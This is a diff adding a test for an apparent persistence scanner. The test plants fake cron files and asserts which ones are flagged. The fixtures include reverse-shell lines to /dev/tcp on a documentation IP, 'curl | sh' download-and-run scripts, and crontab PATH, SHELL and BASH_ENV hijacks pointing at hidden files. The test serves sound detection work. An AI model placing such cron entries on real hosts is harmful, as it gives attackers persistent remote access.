@@ -46,6 +46,46 @@ Deno.test("persistence scheduled: @reboot, anacron, at jobs and timers running f
   assert.deepEqual([atPoint.metadata.atrun_uid, atPoint.metadata.technique], [1001, "T1053.002"]);
 });
 
+Deno.test("persistence scheduled: a crontab's SHELL, BASH_ENV and PATH are judged as the jobs' environment", async () => {
+  const stockCrontab = "SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n" +
+    "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n";
+  using root = makeTree(withAccounts({
+    "etc/crontab": stockCrontab.replace("PATH=", "PATH=/var/lib/.b:"),
+    "etc/cron.d/syshealth": "SHELL=/var/tmp/.s\n*/5 * * * * root true\n",
+    "etc/cron.d/logsync": "SHELL=/bin/bash\nBASH_ENV=/var/tmp/.e\n*/10 * * * * root true\n",
+    "etc/cron.d/zsh-user": "SHELL=/usr/bin/zsh\nMAILTO=ops@example.org\n0 3 * * * root /usr/bin/true\n",
+    // cronie (RHEL) loads these names; Debian's cron does not, but judging them misses nothing on either.
+    "etc/cron.d/sysstat.disabled": "* * * * * root bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n",
+    // Names no cron loads.
+    "etc/cron.d/.hidden": "* * * * * root bash -i >& /dev/tcp/203.0.113.5/4443 0>&1\n",
+    "etc/cron.d/old~": "* * * * * root bash -i >& /dev/tcp/203.0.113.5/4442 0>&1\n",
+    "etc/cron.d/x.rpmsave": "SHELL=/var/tmp/.s\n* * * * * root true\n",
+    "etc/cron.daily/logrotate.disabled": {
+      content: "#!/bin/sh\ncurl -s http://203.0.113.5/u | sh\n",
+      mode: 0o755,
+    },
+    "etc/cron.daily/man-db.swp": { content: "#!/bin/sh\ncurl -s http://203.0.113.5/v | sh\n", mode: 0o755 },
+    "var/spool/cron/crontabs/bob": "PATH=/tmp/bin:/usr/bin:/bin\n@hourly backup\n",
+  }));
+  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
+  assert.equal(r.status, "ok", r.reason);
+  assert.deepEqual(summary(r.findings), [
+    "critical persistence.command.reverse_shell /etc/cron.d/sysstat.disabled",
+    "high persistence.command.download_exec /etc/cron.daily/logrotate.disabled",
+    "high persistence.environment.path_hijack /etc/crontab",
+    "high persistence.environment.path_hijack /var/spool/cron/crontabs/bob",
+    "high persistence.environment.startup_code /etc/cron.d/logsync",
+    "high persistence.environment.startup_code /etc/cron.d/syshealth",
+  ]);
+  // The stock crontab, a system shell by choice and MAILTO say nothing.
+  using quiet = makeTree(withAccounts({
+    "etc/crontab": stockCrontab,
+    "etc/cron.d/zsh-user": "SHELL=/usr/bin/zsh\nMAILTO=ops@example.org\n0 3 * * * root /usr/bin/true\n",
+  }));
+  const q = await runOne(persistence, quiet.path, { persistenceRecentDays: 0 });
+  assert.deepEqual(summary(q.findings), []);
+});
+
 /** A Docker container directory under the data root: config.v2.json and hostconfig.json. */
 function dockerContainer(
   dataRoot: string,
